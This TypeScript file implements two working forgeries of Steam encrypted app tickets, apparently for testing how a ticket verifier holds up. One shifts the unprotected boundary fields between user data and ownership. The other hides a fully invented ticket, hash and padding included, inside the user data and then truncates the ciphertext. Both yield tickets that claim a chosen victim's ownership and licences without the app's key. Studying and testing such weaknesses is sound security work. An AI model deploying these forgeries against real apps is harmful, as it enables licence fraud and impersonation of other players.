/**
 * Two ways to forge an encrypted app ticket without the app's key. The attacker has what every player has: Steam seals a ticket about the
 * attacker, around user data of the attacker's choice.
 */

import { createHash } from 'node:crypto';
import { crc32 } from '../../tickets/crc32.js';
import { FieldWriter } from '../../tickets/fields.js';
import { type Ownership, writeOwnership } from '../../tickets/ownership.js';
import { protobufBytes, protobufVarint, readProtobuf } from '../../tickets/protobuf.js';

/** Steam: seals a genuine ticket of the attacker's around this user data. */
export type Steam = (userData: Uint8Array) => Uint8Array;

export interface Forgery {
  readonly name: string;
  /** A ticket whose user data is `nonce`, which names whom `victim` does, and says that it is of this version. Default 2. */
  readonly forge: (steam: Steam, nonce: Uint8Array, victim: Ownership, version?: 1 | 2) => Uint8Array;
}

const BLOCK_BYTES = 16;
const SALT_BYTES = 8;
const VERSION_2_BYTES = 20;

/** The fields around the ciphertext: nothing protects them. */
interface Frame {
  readonly version: number;
  readonly crc: number;
  readonly userDataBytes: number;
  readonly hashAt: number;
  readonly ciphertext: Uint8Array;
}

function frameOf(ticket: Uint8Array): Frame {
  const fields = readProtobuf(ticket);
  const number = (at: number) => {
    const field = fields?.get(at);
    return field?.kind === 'varint' ? field.value : 0;
  };
  const sealed = fields?.get(5);
  if (sealed?.kind !== 'bytes') throw new Error('Steam gave no ticket');
  return {
    version: number(1),
    crc: number(2),
    userDataBytes: number(3),
    hashAt: number(4),
    ciphertext: sealed.value,
  };
}

function framed({ version, crc, userDataBytes, hashAt, ciphertext }: Frame): Uint8Array {
  return Uint8Array.from([
    ...protobufVarint(1, version),
    ...protobufVarint(2, crc),
    ...protobufVarint(3, userDataBytes),
    ...protobufVarint(4, hashAt),
    ...protobufBytes(5, ciphertext),
  ]);
}

/** An ownership section that ends within what it covers: `covered` further bytes are read as licences of a DLC, and the reserved field. */
function openSection(victim: Ownership, covered: number): Uint8Array {
  if (covered % 4 !== 2) throw new Error(`${covered} bytes cannot be covered, expected 4n + 2`);
  const section = writeOwnership({ ...victim, licenses: [0], dlc: [{ appId: 1, licenses: [] }] });
  const open = section.slice(0, -2);
  const view = new DataView(open.buffer);
  view.setUint32(0, open.length + covered, true);
  view.setUint16(open.length - 2, (covered - 2) / 4, true);
  return open;
}

/** (a) The user data ends with the front of an ownership section, and the frame says that the user data ends before it. */
export const MOVED_BOUNDARY: Forgery = {
  name: 'a moved boundary between user data and ownership',
  forge: (steam, nonce, victim, version = 2) => {
    // Behind the user data, up to the salt: the attacker's ownership section, and the lengths of version 2.
    const genuineFrame = frameOf(steam(new Uint8Array(0)));
    const behind = genuineFrame.hashAt - SALT_BYTES;
    const covered = version === 2 ? behind - VERSION_2_BYTES : behind;
    const section = openSection(victim, covered);
    const genuine = frameOf(steam(Uint8Array.from([...nonce, ...section])));
    return framed({ ...genuine, version, userDataBytes: nonce.length });
  },
};

/** (b) The user data is the whole plain text of a ticket, padding included, and the ciphertext is cut off behind it. */
export const INVENTED_INSIDE: Forgery = {
  name: 'an invented ticket in the user data, and the ciphertext cut off behind it',
  forge: (steam, nonce, victim, version = 2) => {
    const ownership = writeOwnership({ ...victim, licenses: [0], dlc: [] });
    const between = version === 2 ? VERSION_2_BYTES : 0;
    const hashAt = nonce.length + ownership.length + between + SALT_BYTES;
    const salted = new FieldWriter().bytes(nonce).bytes(ownership);
    if (version === 2) {
      salted.u32('rest', 52).u32('unknown', 0).u32('user data', nonce.length);
      salted.u32('ownership', ownership.length).u32('hashed', hashAt);
    }
    const hashed = salted.bytes(new Uint8Array(SALT_BYTES)).finish();
    const hash = createHash('sha1').update(hashed).digest();
    const plain = Uint8Array.from([...hashed, ...hash, version === 2 ? 2 : 0, 0, 0, 0]);
    const padding = BLOCK_BYTES - (plain.length % BLOCK_BYTES);
    const userData = Uint8Array.from([...plain, ...new Uint8Array(padding).fill(padding)]);
    const { ciphertext } = frameOf(steam(userData));
    return framed({
      version,
      crc: crc32(plain),
      userDataBytes: nonce.length,
      hashAt,
      ciphertext: ciphertext.subarray(0, BLOCK_BYTES + userData.length),
    });
  },
};

export const FORGERIES: readonly Forgery[] = [MOVED_BOUNDARY, INVENTED_INSIDE];
